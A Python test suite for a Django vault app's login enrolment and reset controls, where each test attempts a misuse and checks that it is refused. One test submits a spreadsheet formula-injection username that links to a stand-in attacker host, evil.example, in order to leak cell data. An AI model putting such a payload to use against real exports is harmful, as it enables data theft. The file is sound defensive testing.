"""One person is never enough for credentials (review H1, M5): a new or reset login is taken by its holder
through a one-time code, holds no role until then, a guarded reset waits for a second 技术组 member, and a
reveal needs two persons with settled credentials. Each test performs the attack and sees it refused."""

from __future__ import annotations

import logging
import re
from datetime import timedelta

import pyotp
import pytest
from django.contrib.sessions.models import Session
from django.test import override_settings
from django.utils import timezone

from handover.accounts import enrolment
from handover.accounts import services as accounts
from handover.accounts.models import EnrolmentCode, User
from handover.audit.models import Event
from handover.core.errors import DomainError, NotFound, PermissionDenied
from handover.org import services as org
from handover.org.models import Person, Role
from handover.vault import services as vault_services
from handover.vault.models import RevealRequest, RevealStatus
from tests.factories import PersonFactory
from tests.vault.helpers import enrol_totp, next_code, put

NEW_PASSWORD = "Holder-chosen-Passw0rd-41"


def trail() -> str:
    return " ".join(str(v) for row in Event.objects.values() for v in row.values())


def code_from(page: bytes) -> str:
    return re.search(r'data-testid="enrolment-code">([^<]+)<', page.decode()).group(1)


def take(client, code: str, *, password: str = NEW_PASSWORD, current: str = "") -> tuple[object, pyotp.TOTP]:
    """The holder enters the code, scans the seed and confirms: the real pages."""
    entered = client.post("/accounts/enrol/", {"enrolment_code": code})
    assert entered.status_code == 302
    page = client.get("/accounts/enrol/")
    seed = re.search(r'data-testid="totp-secret">([^<]+)<', page.content.decode()).group(1)
    totp = pyotp.TOTP(seed)
    data = {"totp_code": totp.now(), "password": password, "password2": password, "current_password": current}
    return client.post("/accounts/enrol/", data), totp


def code_refused(client, code: str) -> bool:
    client.post("/accounts/enrol/", {"enrolment_code": code})
    return b'data-testid="totp-secret"' not in client.get("/accounts/enrol/").content


@pytest.fixture
def vault(db):
    """A vault set up 3-of-5 with this process's keeper holding the key (as tests/vault/conftest.py)."""
    from handover.core.actors import system
    from handover.vault import lifecycle

    return lifecycle.vault_init(actor=system("test"), shares=5, threshold=3)


@pytest.fixture
def scene(vault, world):
    """HQ-like roles: a sysadmin, two 技术组 members, a firm IT requester and an on-site approver, an entry."""
    sysadmin = world.login_with(Role.SYSADMIN, username="sysadmin")
    tech1 = world.login_with(Role.TECH_GROUP, username="tech1")
    tech2 = world.login_with(Role.TECH_GROUP, username="tech2")
    firm = world.login_with(Role.FIRM_IT, site=world.branch_a, username="firm-a")
    onsite = world.login_with(Role.ONSITE_POST, site=world.branch_a, username="onsite-a")
    entry = put(firm, world, world.branch_a, secret="CANARY-vault-Wk4@tN8%bQe1")
    return {
        "world": world,
        "sysadmin": sysadmin,
        "tech1": tech1,
        "tech2": tech2,
        "firm": firm,
        "onsite": onsite,
        "entry": entry,
    }


def test_login_names_are_validated_so_no_formula_reaches_the_audit_export(db, world):
    admin = world.login_with(Role.SYSADMIN)
    with pytest.raises(DomainError) as refused:
        accounts.user_create(
            actor=admin, username='=HYPERLINK("http://evil.example/?"&B2,"open")', display_name="x"
        )
    assert refused.value.field == "username"
    assert not User.objects.filter(username__startswith="=").exists()


def test_h1_never_enrolled_logins_hold_no_role_and_a_reset_of_them_waits_for_a_second_tech_member(
    client, scene
):
    """The review's H1: sysadmin resets the never-enrolled HQ approver and requester, and would enrol them."""
    world = scene["world"]
    hq_onsite = world.login_with(Role.ONSITE_POST, site=world.hq, username="hq-onsite")
    hq_it = world.login_with(Role.FIRM_IT, site=world.hq, username="hq-it")
    User.objects.filter(pk__in=[hq_onsite.pk, hq_it.pk]).update(enrolled_at=None, enrolled_via="")
    code = world.engagement.code
    # Step 1: never enrolled, so no role, even with a session of their own.
    client.force_login(User.objects.get(pk=hq_it.pk))
    assert client.get(f"/e/{code}/vault/requests/").status_code in (403, 404)
    # Step 2: the sysadmin's reset yields no password and no code: it waits for a second 技术组 member.
    client.force_login(scene["sysadmin"])
    for target in (hq_onsite, hq_it):
        page = client.post(f"/accounts/manage/{target.pk}/reset/")
        assert page.status_code == 302
        assert b"enrolment-code" not in client.get(page["Location"]).content
    waiting = EnrolmentCode.objects.filter(user__in=[hq_onsite, hq_it])
    assert waiting.count() == 2 and all(w.code_hash == "" and w.needs_approval for w in waiting)
    # The sysadmin cannot approve it (not 技术组) …
    assert client.post(f"/accounts/resets/{waiting[0].pk}/approve/").status_code == 403
    # … nor use the old console flow to enrol a factor: a password set by someone else is refused too.
    with pytest.raises(PermissionDenied):
        accounts.password_set(actor=scene["sysadmin"], user=hq_onsite, password=NEW_PASSWORD)
    assert not RevealRequest.objects.exists()


def test_a_guarded_reset_is_issued_only_after_a_second_tech_member_and_the_code_goes_to_them(client, scene):
    onsite = scene["onsite"]
    issued = enrolment.login_reset(actor=scene["sysadmin"], user=onsite, kind="reset")
    assert issued.code is None
    onsite.refresh_from_db()
    assert onsite.is_enrolled and onsite.has_usable_password()  # nothing withdrawn before the approval
    with pytest.raises(PermissionDenied):  # the requester is not the second member
        enrolment.login_reset_approve(actor=scene["sysadmin"], enrolment=issued.enrolment)
    with pytest.raises(PermissionDenied):  # a 技术组 member cannot reset (三权分立), only approve
        enrolment.login_reset(actor=scene["tech1"], user=scene["firm"], kind="reset")
    with pytest.raises(PermissionDenied):  # the login's own holder is not either
        enrolment.login_reset_approve(actor=onsite, enrolment=issued.enrolment)
    client.force_login(scene["tech2"])
    assert b"onsite-a" in client.get("/accounts/resets/").content
    page = client.post(f"/accounts/resets/{issued.enrolment.pk}/approve/")
    code = code_from(page.content)
    onsite.refresh_from_db()
    assert not onsite.is_enrolled and not onsite.has_usable_password() and not onsite.has_totp
    assert Event.objects.filter(action="accounts.enrolment.approved", actor_id=scene["tech2"].pk).exists()
    client.logout()
    response, _totp = take(client, code)
    assert response.status_code == 302
    onsite.refresh_from_db()
    assert onsite.is_enrolled and onsite.check_password(NEW_PASSWORD)
    done = Event.objects.get(action="accounts.enrolment.completed")
    assert (
        done.actor_id == onsite.pk
        and done.after["approved_by"] == "tech2"
        and done.after["requested_by"] == "sysadmin"
    )


def test_codes_work_once_expire_and_never_reach_the_trail_or_the_log(client, scene, caplog):
    caplog.set_level(logging.DEBUG)
    _user, issued = accounts.user_create(actor=scene["sysadmin"], username="newcomer", display_name="新同事")
    assert issued.code not in repr(issued)
    response, totp = take(client, issued.code)
    assert response.status_code == 302
    assert code_refused(client, issued.code)
    with pytest.raises(NotFound):
        enrolment.enrolment_complete(
            digest=enrolment.code_digest(issued.code),
            password=NEW_PASSWORD,
            totp_secret=totp.secret,
            totp_code=totp.now(),
        )
    _, late = accounts.user_create(actor=scene["sysadmin"], username="late", display_name="")
    EnrolmentCode.objects.filter(pk=late.enrolment.pk).update(
        expires_at=timezone.now() - timedelta(seconds=1)
    )
    assert code_refused(client, late.code)
    assert not User.objects.get(username="late").is_enrolled
    for canary in (issued.code, late.code, NEW_PASSWORD, totp.secret):
        assert canary not in trail() and canary not in caplog.text
    assert not EnrolmentCode.objects.filter(code_hash__contains=issued.code).exists()
    for session in Session.objects.all():
        assert issued.code not in str(session.get_decoded())


def test_a_failed_enrolment_writes_nothing(client, scene):
    _user, issued = accounts.user_create(actor=scene["sysadmin"], username="newcomer", display_name="")
    client.post("/accounts/enrol/", {"enrolment_code": issued.code})
    short = client.post(
        "/accounts/enrol/", {"password": "short", "password2": "short", "totp_code": "000000"}
    )
    assert short.status_code == 200
    user = User.objects.get(username="newcomer")
    assert not user.is_enrolled and not user.has_usable_password()
    assert EnrolmentCode.objects.get(pk=issued.enrolment.pk).used_at is None


def test_a_factor_reset_needs_the_holders_current_password(client, scene):
    firm = scene["firm"]
    User.objects.filter(pk=firm.pk).update(enrolled_at=timezone.now() - timedelta(days=30))
    issued = enrolment.login_reset(actor=scene["sysadmin"], user=firm, kind="factor_reset")
    approved = enrolment.login_reset_approve(actor=scene["tech1"], enrolment=issued.enrolment)
    response, _ = take(client, approved.code, current="not the password")
    assert response.status_code == 200 and not User.objects.get(pk=firm.pk).is_enrolled
    from tests.factories import PASSWORD

    response, _ = take(client, approved.code, current=PASSWORD)
    assert response.status_code == 302 and User.objects.get(pk=firm.pk).is_enrolled


def test_one_person_relinked_to_a_second_login_cannot_approve_their_own_request(scene):
    """One human, two logins: the person's first login requests, the person is relinked, the second approves."""
    onsite_person = Person.objects.get(user=scene["onsite"])
    request = vault_services.reveal_request_create(
        actor=scene["onsite"], entry=scene["entry"], reason="核对", purpose="view"
    )
    second = User.objects.create(username="onsite-a-2", enrolled_at=timezone.now() - timedelta(days=30))
    org.person_link_login(actor=scene["tech1"], person=onsite_person, user=second)
    totp = enrol_totp(second)
    with pytest.raises(PermissionDenied):
        vault_services.reveal_approve(actor=second, request=request, totp_code=next_code(totp))
    assert RevealRequest.objects.get(pk=request.pk).status == RevealStatus.PENDING
    assert Event.objects.filter(action="vault.reveal.denied", after__why="same_person").exists()


def test_a_freshly_enrolled_approver_cannot_approve_until_the_wait_is_over(client, scene):
    onsite = scene["onsite"]
    issued = enrolment.login_reset(actor=scene["sysadmin"], user=onsite, kind="reset")
    approved = enrolment.login_reset_approve(actor=scene["tech1"], enrolment=issued.enrolment)
    _response, totp = take(client, approved.code)
    onsite = User.objects.get(pk=onsite.pk)
    request = vault_services.reveal_request_create(
        actor=scene["firm"], entry=scene["entry"], reason="核对", purpose="view"
    )
    with pytest.raises(PermissionDenied):
        vault_services.reveal_approve(actor=onsite, request=request, totp_code=next_code(totp))
    with override_settings(HANDOVER_FRESH_CREDENTIAL_HOURS=0):
        assert (
            vault_services.reveal_approve(actor=onsite, request=request, totp_code=next_code(totp)).status
            == "approved"
        )


def test_a_login_waiting_for_enrolment_holds_no_role(db, world):
    waiting = world.login_with(Role.TECH_GROUP, username="waiting")
    User.objects.filter(pk=waiting.pk).update(enrolled_at=None)
    from handover.org.selectors import grants_for

    assert grants_for(User.objects.get(pk=waiting.pk)) == []
    assert grants_for(User.objects.get(pk=world.login_with(Role.TECH_GROUP).pk))


def test_the_console_bootstrap_is_recorded_and_refused_to_logins(db, world):
    from handover.core.actors import system

    admin = world.login_with(Role.SYSADMIN)
    user = User.objects.create(username="boot")
    with pytest.raises(PermissionDenied):
        enrolment.login_bootstrap_console(actor=admin, user=user, password=NEW_PASSWORD)
    enrolment.login_bootstrap_console(actor=system("demo"), user=user, password=NEW_PASSWORD)
    user.refresh_from_db()
    assert user.enrolled_via == "console" and user.check_password(NEW_PASSWORD)
    event = Event.objects.get(action="accounts.enrolment.console")
    assert event.actor_username == "system:demo" and NEW_PASSWORD not in trail()


def test_the_cli_prints_the_code_once_and_a_guarded_reset_waits_for_a_second_tech_member(client, scene):
    import io

    from django.core.management import CommandError, call_command

    out = io.StringIO()
    call_command("login", "create", "--user", "sysadmin", "--login", "cli-new", stdout=out)
    code = out.getvalue().split(": ")[-1].split()[0]
    assert code not in trail()
    assert take(client, code)[0].status_code == 302
    out = io.StringIO()
    call_command("login", "reset", "--user", "sysadmin", "--login", "onsite-a", stdout=out)
    assert "handover login approve" in out.getvalue()
    with pytest.raises(CommandError):
        call_command("login", "approve", "--user", "sysadmin", "--login", "onsite-a", stdout=io.StringIO())
    with pytest.raises(CommandError):
        call_command("login", "reset", "--user", "tech1", "--login", "firm-a", stdout=io.StringIO())
    out = io.StringIO()
    call_command("login", "approve", "--user", "tech2", "--login", "onsite-a", stdout=out)
    assert "Enrolment code for onsite-a" in out.getvalue() or "onsite-a" in out.getvalue()
    assert not User.objects.get(username="onsite-a").is_enrolled


def test_a_code_issued_alone_stops_working_once_the_login_is_given_vault_roles(client, scene):
    """The sysadmin keeps a new login's code, 技术组 links the login to an on-site person: the code is dead."""
    world = scene["world"]
    user, issued = accounts.user_create(actor=scene["sysadmin"], username="kept-code", display_name="")
    person = PersonFactory(engagement=world.engagement, organisation=world.org, site=world.branch_a)
    person.party = "onsite_post"
    person.save()
    org.person_link_login(actor=scene["tech1"], person=person, user=user)
    org.role_grant(actor=scene["tech1"], person=person, role=Role.ONSITE_POST, site=world.branch_a)
    response, _ = take(client, issued.code)
    assert response.status_code == 200
    assert not User.objects.get(pk=user.pk).is_enrolled


def test_an_approved_reset_ends_the_logins_tokens(scene):
    """Review M7: a token outlived a sysadmin's password reset. The approved reset withdraws it (and every
    session) through credentials_revoke; the request alone withdraws nothing."""
    from rest_framework.test import APIClient

    firm = scene["firm"]
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {accounts.api_token_issue(user=firm)}")
    assert api.get("/api/engagements/").status_code == 200
    requested = enrolment.login_reset(actor=scene["sysadmin"], user=firm, kind="reset")
    assert api.get("/api/engagements/").status_code == 200
    enrolment.login_reset_approve(actor=scene["tech1"], enrolment=requested.enrolment)
    assert api.get("/api/engagements/").status_code in (401, 403)
    assert Event.objects.filter(action="accounts.credentials.revoked", object_id=str(firm.pk)).exists()


def test_the_login_page_leads_a_new_holder_to_the_enrolment_page(client, db):
    page = client.get("/accounts/login/").content.decode()
    assert 'href="/accounts/enrol/"' in page and 'data-testid="enrol-link"' in page
    assert client.get("/accounts/enrol/").status_code == 200
